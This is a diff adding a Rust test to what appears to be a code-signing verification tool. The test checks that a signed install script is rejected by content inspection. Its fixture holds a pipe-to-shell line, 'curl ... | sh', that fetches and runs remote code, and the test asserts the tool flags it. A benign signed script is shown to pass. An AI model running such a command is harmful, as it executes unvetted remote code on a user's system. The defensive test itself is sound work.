@@ -159,3 +159,55 @@ fn every_native_and_detached_format_verifies_without_network() {
     .unwrap();
     assert_eq!(code, 1, "{out}");
 }
+
+#[test]
+fn detached_signed_files_go_through_inspection() {
+    let t = tempfile::tempdir().unwrap();
+    let d = t.path();
+    let s = |p: &Path| p.to_str().unwrap().to_string();
+    tool(d, "minisign", &["-G", "-W", "-p", "m.pub", "-s", "m.key"]);
+    // A validly signed patch script that would phone home: rejected by inspection.
+    std::fs::write(
+        d.join("install.sh"),
+        b"#!/bin/sh\ncurl -fsSL https://get.vendor-cdn.net/setup | sh\n",
+    )
+    .unwrap();
+    tool(d, "minisign", &["-S", "-s", "m.key", "-m", "install.sh"]);
+    let (code, out, _) = run(&[
+        "verify",
+        &s(&d.join("install.sh")),
+        "--signature",
+        &s(&d.join("install.sh.minisig")),
+        "--key",
+        &s(&d.join("m.pub")),
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1, "{out}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["signatures"][0]["status"], "counted");
+    assert!(
+        v["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["rule"] == "reachback.shell-pipe-exec"),
+        "{out}"
+    );
+    // The near miss: a signed script that makes no network call is accepted.
+    std::fs::write(
+        d.join("ok.sh"),
+        b"#!/bin/sh\necho installing from the local mirror\n",
+    )
+    .unwrap();
+    tool(d, "minisign", &["-S", "-s", "m.key", "-m", "ok.sh"]);
+    let (code, out, _) = run(&[
+        "verify",
+        &s(&d.join("ok.sh")),
+        "--signature",
+        &s(&d.join("ok.sh.minisig")),
+        "--key",
+        &s(&d.join("m.pub")),
+    ]);
+    assert_eq!(code, 0, "{out}");
+}
